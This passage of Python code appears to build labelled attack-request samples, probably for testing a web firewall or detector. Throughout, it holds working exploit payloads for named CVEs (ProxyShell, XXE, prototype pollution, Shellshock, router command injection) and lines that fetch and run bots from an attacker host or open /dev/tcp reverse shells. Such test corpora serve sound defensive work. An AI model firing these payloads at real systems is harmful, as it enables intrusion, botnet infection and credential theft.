       "&rdoSearch=name&txtSearchname=sdf&selfor=Business+location&btnSubmit=Search")),
  ("query", "operator=http://169.254.169.254/", q("operator", "http://169.254.169.254/", more=[("rdoSearch", "name")])))

X("generic", "gitlab-ci-lint-ssrf-cve-2021-22214",
  ("json", "include: remote: http://169.254.169.254/latest/meta-data/",
   jpost("/api/v4/ci/lint?include_merged_yaml=true", {"include_merged_yaml": True,
                                                      "content": "include:\n  remote: http://169.254.169.254/latest/meta-data/iam/security-credentials/x.yml"})),
  ("json", f"include: remote: http://{OOB}/api/v1/targets/?test.yml",
   jpost("/api/v4/ci/lint", {"include_merged_yaml": True,
                             "content": f"include:\n  remote: http://{OOB}/api/v1/targets/?test.yml"})),
  ("json", "include: remote: http://127.0.0.1:9090/api/v1/targets?x.yml",
   js("content", "include:\n  remote: http://127.0.0.1:9090/api/v1/targets?x.yml")))

PINGBACK = ('<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>'
            '{src}</string></value></param><param><value><string>https://blog.example.com/?p=1</string></value>'
            '</param></params></methodCall>')
X("generic", "wordpress-xmlrpc-pingback-ssrf",
  ("xml", "http://169.254.169.254/latest/meta-data/", xpost("/xmlrpc.php", PINGBACK.replace(
      "{src}", "http://169.254.169.254/latest/meta-data/"), "text/xml")),
  ("xml", "http://127.0.0.1:22/", xpost("/xmlrpc.php", PINGBACK.replace("{src}", "http://127.0.0.1:22/"), "text/xml")),
  ("xml", "http://169.254.169.254/latest/meta-data/", xpost("/api/users", PINGBACK.replace(
      "{src}", "http://169.254.169.254/latest/meta-data/"), "text/xml")))

X("generic", "exchange-proxyshell",
  ("path", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
   get("/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com")),
  ("path", "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com",
   get("/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com")),
  ("path", "/autodiscover/autodiscover.json?a=a@evil.com/powershell/?X-Rps-CAT=...",
   post("/autodiscover/autodiscover.json?a=a@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBZh"
        "ZG1pbmlzdHJhdG9yQGxvY2FsLmxvY2Fs&Email=autodiscover/autodiscover.json%3Fa=a@evil.com", "",
        "application/soap+xml;charset=UTF-8")),
  ("path", "/api/users?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com",
   get("/api/users?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com")))

X("generic", "exchange-proxylogon",
  ("cookie", "X-BEResource=localhost~1942062522", ck("X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/"
                                                    "default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3",
                                                    "/ecp/y.js")),
  ("cookie", "X-BEResource=Administrator@exchange.local:444/autodiscover/autodiscover.xml?#~1941962753",
   post("/ecp/target.js", "<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/"
        "requestschema/2006\"><Request><EMailAddress>administrator@example.com</EMailAddress><AcceptableResponseSchema>"
        "http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>"
        "</Request></Autodiscover>", "text/xml",
        {"Cookie": "X-BEResource=Administrator@exchange.local:444/autodiscover/autodiscover.xml?#~1941962753"})),
  ("cookie", "X-BEResource=localhost~1942062522", ck("X-BEResource=localhost~1942062522", "/api/users")))

X("generic", "proxy-request-metadata",
  ("path", "http://169.254.169.254/latest/meta-data/", get("http://169.254.169.254/latest/meta-data/")),
  ("path", "http://metadata.google.internal/computeMetadata/v1/",
   get("http://metadata.google.internal/computeMetadata/v1/",
                                                                      {"Metadata-Flavor": "Google"})),
  ("header:X-Forwarded-Host", "169.254.169.254", hd("X-Forwarded-Host", "169.254.169.254",
                                                    "/latest/meta-data/iam/security-credentials/")))

XXE_FILE = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "{uri}">]><user><name>&xxe;</name></user>'
X("generic", "xxe-external-entity",
  ("xml", "file:///etc/passwd", xpost("/api/users", XXE_FILE.replace("{uri}", "file:///etc/passwd"))),
  ("xml", "file:///c:/windows/win.ini", xpost("/api/users/42", XXE_FILE.replace("{uri}", "file:///c:/windows/win.ini"),
                                              "text/xml", method="PUT")),
  ("xml", "php://filter/convert.base64-encode/resource=/etc/passwd",
   xpost("/admin/users/search", XXE_FILE.replace("{uri}", "php://filter/convert.base64-encode/resource=/etc/passwd"))),
  ("xml", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
   xpost("/me/settings", XXE_FILE.replace("{uri}",
                                          "http://169.254.169.254/latest/meta-data/iam/security-credentials/"))),
  ("xml", "expect://id", xpost("/oauth/token", XXE_FILE.replace("{uri}", "expect://id"))),
  ("xml", "file:///etc/passwd (UTF-16 declared, ASCII sent)", xpost(
      "/api/users",
      '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      "application/xml")))

X("generic", "xxe-parameter-entity",
  ("xml", f'<!ENTITY % dtd SYSTEM "http://{OOB}/evil.dtd">%dtd;', xpost(
      "/api/users", '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/hostname">'
      f'<!ENTITY % dtd SYSTEM "http://{OOB}/evil.dtd">%dtd;]><data>&send;</data>')),
  ("xml", "local DTD docbookx.dtd ISOamso error-based", xpost(
      "/api/users", '<?xml version="1.0"?><!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/'
      'docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval '
      '"<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>'
      '%local_dtd;]><message>x</message>')),
  ("xml", f'<!ENTITY % a SYSTEM "http://{OOB}/x.dtd"> %a; %b;', xpost(
      "/admin/users/search", f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://{OOB}/x.dtd"> %a; %b;]>'
      '<r>&c;</r>', "text/xml")),
  ("xml", f'<!DOCTYPE r SYSTEM "http://{OOB}/probe.dtd">', xpost(
      "/api/users/42", f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r SYSTEM "http://{OOB}/probe.dtd"><r>1</r>',
      method="PUT")),
  ("xml", "ftp:// exfiltration DTD", xpost(
      "/slack/events", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % asd SYSTEM "http://' + OOB + '/ftp.dtd">'
      '%asd;%c;]><a>&rrr;</a>', "text/xml", {"X-Slack-Request-Timestamp": "1719000123",
                                             "X-Slack-Signature": "v0=" + "ab" * 32})))

XI = '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'
X("generic", "xxe-xinclude",
  ("form", XI, adm("q", XI)),
  ("json", XI, js("name", XI)),
  ("query", XI, q("productId", XI)),
  ("xml", XI, xpost("/api/users", '<?xml version="1.0"?><user><name>' + XI + "</name></user>")))

SVG = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE test [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]>'
       '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
       ' version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>')
X("generic", "xxe-svg-upload",
  ("multipart-field", SVG, mpart("/api/users/42/avatar", [("avatar", "avatar.svg", "image/svg+xml", SVG)])),
  ("multipart-field", SVG, mpart("/me/settings", [("photo", "me.svg", "image/svg+xml", SVG)])),
  ("xml", SVG, xpost("/api/users/42/avatar", SVG, "image/svg+xml", method="PUT")))

SOAP_XXE = ('<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>&xxe;</id>'
            '</GetUser></soap:Body></soap:Envelope>')
X("generic", "xxe-soap",
  ("xml", SOAP_XXE, xpost("/api/users", SOAP_XXE, "text/xml", {"SOAPAction": "\"urn:GetUser\""})),
  ("xml", SOAP_XXE, xpost("/services/UserService", SOAP_XXE, "text/xml", {"SOAPAction": "\"\""})),
  ("xml", SOAP_XXE, xpost("/admin/users/search", SOAP_XXE, "application/soap+xml")))

ZIMBRA = ('<!DOCTYPE xxe [<!ELEMENT name ANY ><!ENTITY xxe SYSTEM "file:///opt/zimbra/conf/localconfig.xml">]>'
          '<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a">'
          '<Request><EMailAddress>aaaaa</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema>'
          '</Request></Autodiscover>')
X("generic", "zimbra-autodiscover-xxe-cve-2019-9670",
  ("xml", ZIMBRA, xpost("/Autodiscover/Autodiscover.xml", ZIMBRA, "text/xml")),
  ("xml", ZIMBRA.replace("/opt/zimbra/conf/localconfig.xml", "/etc/passwd"),
   xpost("/autodiscover/autodiscover.xml", ZIMBRA.replace("/opt/zimbra/conf/localconfig.xml", "/etc/passwd"),
         "text/xml")),
  ("xml", ZIMBRA, xpost("/api/users", ZIMBRA, "text/xml")))

COSMIC = (f'<?xml version="1.0" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM "http://{OOB}/dtd.xml"> %sp; '
          '%param1; ]><r>&exfil;</r>')
X("generic", "magento-cosmicsting-cve-2024-34102",
  ("json", COSMIC, jpost("/rest/V1/guest-carts/1/estimate-shipping-methods", {"address": {"totalsReader": {
      "collectorList": {"totalCollector": {"sourceData": {"data": COSMIC, "options": 16}}}}}})),
  ("json", COSMIC, jpost("/rest/all/V1/guest-carts/test-assetnote/estimate-shipping-methods", {"address": {
      "totalsReader": {"collectorList": {"totalCollector": {"sourceData": {"data": COSMIC, "options": 12345678}}}}}})),
  ("json", COSMIC, js("address", {"totalsReader": {"collectorList": {"totalCollector": {"sourceData": {
      "data": COSMIC, "options": 16}}}}})))

X("generic", "prototype-pollution-query",
  ("param-name", "__proto__[isAdmin]=true", get("/api/users?__proto__[isAdmin]=true")),
  ("param-name", "constructor[prototype][isAdmin]=true", get("/api/users?constructor[prototype][isAdmin]=true&page=1")),
  ("param-name", "__proto__.role=admin", get("/api/users/42?__proto__.role=admin")),
  ("param-name", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x",
   get("/api/users?__proto__[outputFunctionName]=" + enc("x;process.mainModule.require('child_process')"
                                                          ".execSync('id');x"))),
  ("param-name", "__proto__[sourceURL]=\\u000areturn process.mainModule.require('child_process').execSync('id')//",
   get("/api/users?__proto__%5BsourceURL%5D=%5Cu000areturn%20process.mainModule.require('child_process')"
       ".execSync('id')%2F%2F")),
  ("param-name", "%5F%5Fproto%5F%5F%5Bpolluted%5D=1 (encoded)",
   get("/admin/users/search?%5F%5Fproto%5F%5F%5Bpolluted%5D=1")))

X("generic", "prototype-pollution-json",
  ("json", '{"__proto__":{"isAdmin":true}}', jraw("/api/users", '{"name":"x","__proto__":{"isAdmin":true}}')),
  ("json", '{"constructor":{"prototype":{"isAdmin":true}}}', jpost("/me/settings", {
      "constructor": {"prototype": {"isAdmin": True}}}, method="PATCH")),
  ("json", '{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(...)..."}}',
   jraw("/api/users/42", '{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require('
        "'child_process').exec('bash -c \\\"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\\\"');var __tmp2\"}}",
        method="PATCH")),
  ("json", '{"__proto__":{"shell":"/proc/self/exe","argv0":"...","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
   jraw("/api/users", '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\')'
        '.execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}')),
  ("json", '{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":1}}',
   jraw("/api/users", '{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":1}}')),
  ("json", '{"__proto__":{"isAdmin":true}} in Slack text',
   slack('config dump {"__proto__":{"isAdmin":true},"constructor":{"prototype":{"role":"admin"}}}')))

X("generic", "express-fileupload-pollution-cve-2020-7699",
  ("multipart-field", "__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');x",
   mpart("/api/users/42/avatar", [("__proto__.outputFunctionName", None, None,
                                   "x;process.mainModule.require('child_process').execSync('id');x"),
                                  ("file", "a.png", "image/png", "\x89PNG")])),
  ("multipart-field", "__proto__.toString=1", mpart("/me/settings", [("__proto__.toString", None, None, "1")])),
  ("multipart-field", "__proto__.escapeFunction=...",
   mpart("/api/users", [("__proto__.client", None, None, "1"), ("__proto__.escapeFunction", None, None,
                                                                  "JSON.stringify; process.mainModule.require("
                                                                  "'child_process').exec('id')")])))

KIBANA = (".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i>& "
          f"/dev/tcp/{ATK}/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS="
          "'--require /proc/self/environ')")
X("generic", "kibana-timelion-cve-2019-7609",
  ("json", KIBANA, jpost("/api/timelion/run", {"sheet": [KIBANA], "time": {"from": "now-15m", "to": "now",
                                                                           "mode": "quick", "interval": "auto",
                                                                           "timezone": "Europe/Berlin"}},
                         {"kbn-version": "6.5.4"})),
  ("json", KIBANA, jpost("/api/users", {"sheet": [KIBANA]})),
  ("json", ".es(*).props(label.__proto__.x='polluted')", jpost("/api/timelion/run", {
      "sheet": [".es(*).props(label.__proto__.x='polluted')"], "time": {"from": "now-1h", "to": "now"}})))

NODE_SER = ('{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'id\', '
            'function(error, stdout, stderr) { console.log(stdout) });}()"}')
X("generic", "node-serialize-cve-2017-5941",
  ("cookie", "profile=base64(_$$ND_FUNC$$_function (){require('child_process').exec(...)}())",
   ck("profile=" + b64(NODE_SER))),
  ("cookie", "profile=_$$ND_FUNC$$_function (){...}() (URL-encoded)", ck("profile=" + enc(NODE_SER), "/me/settings")),
  ("json", NODE_SER, jraw("/api/users", NODE_SER)),
  ("json", "_$$ND_FUNC$$_function(){return require('fs').readFileSync('/etc/passwd')}()",
   js("prefs", "_$$ND_FUNC$$_function(){return require('fs').readFileSync('/etc/passwd')}()")))

X("generic", "fortios-auth-bypass-cve-2022-40684",
  ("header:Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";',
   jpost("/api/v2/cmdb/system/admin/admin", {"ssh-public-key1": "\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ attacker\""},
         {"User-Agent": "Report Runner", "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'}, method="PUT")),
  ("header:Forwarded", 'for="[127.0.0.1]:8888";by="[127.0.0.1]:8888";',
   get("/api/v2/cmdb/system/admin", {"User-Agent": "Node.js",
                                     "Forwarded": 'for="[127.0.0.1]:8888";by="[127.0.0.1]:8888";'})),
  ("header:Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";',
   get("/api/users", {"User-Agent": "Report Runner", "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'})))

X("generic", "nextjs-middleware-bypass-cve-2025-29927",
  ("header:x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware",
   hd("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware", "/admin/")),
  ("header:x-middleware-subrequest", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
   hd("x-middleware-subrequest", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware",
      "/me/settings")),
  ("header:x-middleware-subrequest", "pages/_middleware", hd("x-middleware-subrequest", "pages/_middleware",
                                                             "/api/users")))

X("generic", "nacos-auth-bypass",
  ("header:User-Agent", "Nacos-Server", get("/nacos/v1/auth/users?pageNo=1&pageSize=9",
                                            {"User-Agent": "Nacos-Server"})),
  ("header:User-Agent", "Nacos-Server", get("/nacos/v1/cs/configs?dataId=&group=&pageNo=1&pageSize=99&search=accurate",
                                            {"User-Agent": "Nacos-Server"})),
  ("header:Authorization", "Bearer eyJ... (default token.secret.key)",
   get("/api/users", {"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJuYWNvcyIsImV4cCI6OTk5OTk5OTk5OX0."
                                       "00LxfkpzYpdVeojTfqMhtpPvNidpNcDoLU90MnHzA8Q",
                      "User-Agent": "Nacos-Server"})))

X("generic", "aem-dispatcher-bypass",
  ("path", "/bin/querybuilder.json;%0aa.css?path=/home&p.hits=full&p.limit=-1",
   get("/bin/querybuilder.json;%0aa.css?path=/home&p.hits=full&p.limit=-1")),
  ("path", "/bin/querybuilder.json.servlet;%0aa.css?type=rep:User&p.hits=selective&p.properties=rep:password",
   get("/bin/querybuilder.json.servlet;%0aa.css?type=rep:User&p.hits=selective&p.properties=rep:authorizableId%20rep:password")),
  ("path", "/api/users///bin///querybuilder.json.css?path=/etc",
   get("/api/users///bin///querybuilder.json.css?path=/etc")))

X("generic", "joomla-config-disclosure-cve-2023-23752",
  ("query", "public=true", get("/api/index.php/v1/config/application?public=true")),
  ("query", "public=true", get("/api/index.php/v1/users?public=true")),
  ("query", "public=true", get("/api/users?public=true&option=com_config")))

# ===== Shell / RCE =========================================================================================

SS = "() { :; }; echo; /bin/bash -c '{cmd}'"
X("rce", "shellshock",
  ("header:User-Agent", SS.replace("{cmd}", "id"), hd("User-Agent", SS.replace("{cmd}", "id"), "/cgi-bin/status")),
  ("header:Referer", SS.replace("{cmd}", "cat /etc/passwd"), hd("Referer", SS.replace("{cmd}", "cat /etc/passwd"),
                                                                "/cgi-bin/test.cgi")),
  ("cookie", "() { :;}; /bin/bash -c 'wget http://203.0.113.66/bot -O /tmp/b; sh /tmp/b'",
   get("/cgi-bin/admin.cgi", {"Cookie": f"() {{ :;}}; /bin/bash -c 'wget http://{ATK}/bot -O /tmp/b; sh /tmp/b'"})),
  ("header:User-Agent", "() { ignored;};/bin/bash -c 'nslookup shellshock." + OOB + "'",
   hd("User-Agent", "() { ignored;};/bin/bash -c 'nslookup shellshock." + OOB + "'", "/api/users")),
  ("header:X-Api-Version", "() { :; }; echo; echo; /bin/cat /etc/passwd",
   hd("X-Api-Version", "() { :; }; echo; echo; /bin/cat /etc/passwd", "/admin/")),
  ("header:Accept", "() { :;}; echo Content-type: text/plain; echo; /usr/bin/id",
   hd("Accept", "() { :;}; echo Content-type: text/plain; echo; /usr/bin/id", "/cgi-bin/luci")))

X("rce", "shellshock-cve-2014-6278",
  ("header:User-Agent", "() { _; } >_[$($())] { echo; id; }", hd("User-Agent", "() { _; } >_[$($())] { echo; id; }",
                                                                  "/cgi-bin/status")),
  ("header:Referer", "() { _; } >_[$($())] { echo hi; }", hd("Referer", "() { _; } >_[$($())] { echo hi; }",
                                                             "/api/users/42")),
  ("header:User-Agent", "() { (a)=>\\' bash -c 'echo date'; cat echo", hd("User-Agent",
                                                                          "() { (a)=>\\' bash -c 'echo date'; cat echo",
                                                                          "/cgi-bin/php")),
  ("cookie", "() { _; } >_[$($())] { /bin/id; }", ck("x=() { _; } >_[$($())] { /bin/id; }", "/cgi-bin/login.cgi")))

X("rce", "dlink-hnap-cve-2015-2051",
  ("header:SOAPAction",
   f"\"http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://{ATK}/bins/mips "
   "&& chmod 777 mips && ./mips hnap`\"",
   post("/HNAP1/", "", "text/xml", {"SOAPAction": f"\"http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget "
                                                  f"http://{ATK}/bins/mips && chmod 777 mips && ./mips hnap`\""})),
  ("header:SOAPAction", "\"http://purenetworks.com/HNAP1/GetDeviceSettings/`telnetd -p 9999`\"",
   post("/HNAP1/", "", "text/xml",
        {"SOAPAction": "\"http://purenetworks.com/HNAP1/GetDeviceSettings/`telnetd -p 9999`\""})),
  ("header:SOAPAction", "\"http://purenetworks.com/HNAP1/`id`\"",
   post("/api/users", "", "text/xml", {"SOAPAction": "\"http://purenetworks.com/HNAP1/`id`\""})),
  ("header:SOAPAction", f"http://purenetworks.com/HNAP1/GetDeviceSettings/$(wget -O- http://{ATK}/d|sh)",
   post("/HNAP1", "", "text/xml",
        {"SOAPAction": f"http://purenetworks.com/HNAP1/GetDeviceSettings/$(wget -O- http://{ATK}/d|sh)"})))

X("rce", "dlink-diagnostic",
  ("form", "dst=& id&", form_raw("/diagnostic.php", "act=ping&dst=%26%20id%26")),
  ("form", f"cmd=wget http://{ATK}/x -O /tmp/x; sh /tmp/x",
   form("/command.php", [("cmd", f"wget http://{ATK}/x -O /tmp/x; sh /tmp/x")])),
  ("form", "ping_addr=;cat /etc/passwd", form_raw("/cgi-bin/webproc", "getpage=html%2Findex.html&var%3Amenu=setup"
                                                   "&obj-action=set&ping_addr=%3Bcat%20%2Fetc%2Fpasswd")),
  ("form", "dst=;id;", adm("dst", ";id;", [("act", "ping")])))

X("rce", "linksys-tmunblock",
  ("form", f"ttcp_ip=-h `cd /tmp; wget http://{ATK}/x; chmod 777 x; ./x`",
   form_raw("/tmUnblock.cgi", "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+%60"
            f"cd+%2Ftmp%3B+wget+http%3A%2F%2F{ATK}%2Fx%3B+chmod+777+x%3B+.%2Fx%60&StartEPI=1")),
  ("form", "ttcp_ip=-h `id`", form_raw("/hndUnblock.cgi", "submit_button=&change_action=&action=&commit=0&ttcp_num=2"
                                       "&ttcp_size=2&ttcp_ip=-h+%60id%60&StartEPI=1")),
  ("form", "ttcp_ip=-h `id`", adm("ttcp_ip", "-h `id`", [("StartEPI", "1")])))

X("rce", "netgear-setup-cgi",
  ("query", f"cmd=rm -rf /tmp/*;wget http://{ATK}:8088/Mozi.m -O /tmp/netgear;sh netgear",
   get(f"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ATK}:8088/Mozi.m+-O+/tmp/netgear;"
       "sh+netgear&curpath=/&currentsetting.htm=1")),
  ("query", "cmd=cat /www/.htpasswd",
   get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cat+/www/.htpasswd&curpath=/"
                                          "&currentsetting.htm=1")),
  ("query", "cmd=id", q("cmd", "id", more=[("todo", "syscmd"), ("next_file", "netgear.cfg"), ("currentsetting.htm",
                                                                                              "1")])))

X("rce", "draytek-cve-2020-8515",
  ("form", "keyPath='\\n/bin/cat${IFS}/etc/passwd\\n'",
   form_raw("/cgi-bin/mainfunction.cgi", "action=login&keyPath=%27%0A%2fbin%2fcat${IFS}%2fetc%2fpasswd%0A%27"
            "&loginUser=a&loginPwd=a")),
  ("form", "rtick=`wget http://.../d -O /tmp/d`",
   form_raw("/cgi-bin/mainfunction.cgi", "action=login&keyPath=x&loginUser=a&loginPwd=a&rtick=%60wget%20http%3A%2F%2F"
            f"{ATK}%2Fd%20-O%20%2Ftmp%2Fd%60&formcaptcha=x")),
  ("form", "keyPath='\\n/usr/bin/id\\n'", adm("keyPath", "'\n/usr/bin/id\n'", [("action", "login")])))

X("rce", "zyxel-ztp-cve-2022-30525",
  ("json", "mtu=; bash -c 'id';", jpost("/ztp/cgi-bin/handler", {"command": "setWanPortSt", "proto": "dhcp",
                                                                 "port": "4",
                                                                "vlan_tagged": "1", "vlanid": "5",
                                                                "mtu": "; bash -c 'id';", "data": "hi"})),
  ("json", f"mtu=; bash -c 'exec bash -i &>/dev/tcp/{ATK}/4444 <&1;';",
   jpost("/ztp/cgi-bin/handler", {"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1",
                                  "vlanid": "5", "mtu": f"; bash -c 'exec bash -i &>/dev/tcp/{ATK}/4444 <&1;';",
                                  "data": "hi"})),
  ("json", "mtu=; ping -c 3 ...;", js("mtu", f"; ping -c 3 {OOB};")))

HUAWEI = ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle='
          '"http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:'
          'WANPPPConnection:1"><NewStatusURL>{cmd}</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>'
          '</u:Upgrade></s:Body></s:Envelope>')
HUAWEI_AUTH = ('Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", '
               'uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth",'
               ' nc=00000001, cnonce="248d1a2560100669"')
X("rce", "huawei-hg532-cve-2017-17215",
  ("xml",
   f"$(/bin/busybox wget -g {ATK} -l /tmp/mips -r /mips; /bin/busybox chmod 777 /tmp/mips; /tmp/mips huawei.rep)",
   xpost("/ctrlt/DeviceUpgrade_1", HUAWEI.replace("{cmd}", f"$(/bin/busybox wget -g {ATK} -l /tmp/mips -r /mips; "
                                                 "/bin/busybox chmod 777 /tmp/mips; /tmp/mips huawei.rep)"),
         "text/xml", {"Authorization": HUAWEI_AUTH})),
  ("xml", "$(id)", xpost("/ctrlt/DeviceUpgrade_1", HUAWEI.replace("{cmd}", "$(id)"), "text/xml",
                         {"Authorization": HUAWEI_AUTH})),
  ("xml", "$(/bin/busybox telnetd -l /bin/sh)",
   xpost("/api/users", HUAWEI.replace("{cmd}", "$(/bin/busybox telnetd -l /bin/sh)"), "text/xml")))

X("rce", "gpon-cve-2018-10561",
  ("form", f"dest_host=`busybox wget http://{ATK}/gpon -O /tmp/gaf;sh /tmp/gaf`",
   form_raw("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
            f"http://{ATK}/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0")),
  ("form", "dest_host=`ls`;ls", form_raw("/GponForm/diag_Form?style/", "XWebPageName=diag&diag_action=ping"
                                         "&wan_conlist=0&dest_host=%60ls%60%3Bls&ipv=0")),
  ("form", "dest_host=`id`;id", adm("dest_host", "`id`;id", [("diag_action", "ping"), ("ipv", "0")])))

X("rce", "tplink-archer-cve-2023-1389",
  ("query", f"country=$(id>`wget http://{ATK}/tl;sh tl`)",
   get(f"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://{ATK}/tl;sh+tl%60)")),
  ("query", "country=$(id>/tmp/x)",
   get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)")),
  ("query", "country=$(id)", q("country", "$(id)", more=[("form", "country"), ("operation", "write")])))

X("rce", "realtek-sdk",
  ("form", f"sysCmd=wget http://{ATK}/x -O /tmp/x;sh /tmp/x",
   form("/boafrm/formSysCmd", [("submit-url", "/syscmd.htm"), ("sysCmd", f"wget http://{ATK}/x -O /tmp/x;sh /tmp/x"),
                               ("apply", "Apply"), ("msg", "")])),
  ("xml", "NewInternalClient `cd /var; wget http://.../r; sh r`",
   xpost("/picsdesc.xml", '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
         's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-'
         'upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>'
         '<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`cd /var; wget '
         f'http://{ATK}/r; sh r`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing'
         '</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>',
         "text/xml", {"SOAPAction": "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"})),
  ("form", "sysCmd=cat /etc/passwd", adm("sysCmd", "cat /etc/passwd", [("apply", "Apply")])))

X("rce", "hikvision-cve-2021-36260",
  ("xml", "<language>$(id>webLib/c)</language>", xpost("/SDK/webLanguage", '<?xml version="1.0" encoding="UTF-8"?>'
                                                       "<language>$(id>webLib/c)</language>", method="PUT")),
  ("xml", f"<language>$(wget http://{ATK}/h -O- | sh)</language>",
   xpost("/SDK/webLanguage",
         f'<?xml version="1.0" encoding="UTF-8"?><language>$(wget http://{ATK}/h -O- | sh)</language>',
         method="PUT")),
  ("xml", "<language>$(id)</language>", xpost("/api/users/42", '<?xml version="1.0" encoding="UTF-8"?>'
                                              "<language>$(id)</language>", method="PUT")))

X("rce", "avtech-cloudsetup",
  ("query", f"exefile=wget http://{ATK}/av;sh av",
   get(f"/cgi-bin/supervisor/CloudSetup.cgi?exefile=wget%20http://{ATK}/av;sh%20av")),
  ("query", "exefile=cat /etc/passwd", get("/cgi-bin/supervisor/CloudSetup.cgi?exefile=cat%20/etc/passwd")),
  ("query", "exefile=id", q("exefile", "id")))

X("rce", "tenda-goform",
  ("form", f"deviceName=;cd /tmp;wget http://{ATK}/t;sh t;", form("/goform/setUsbUnload", [
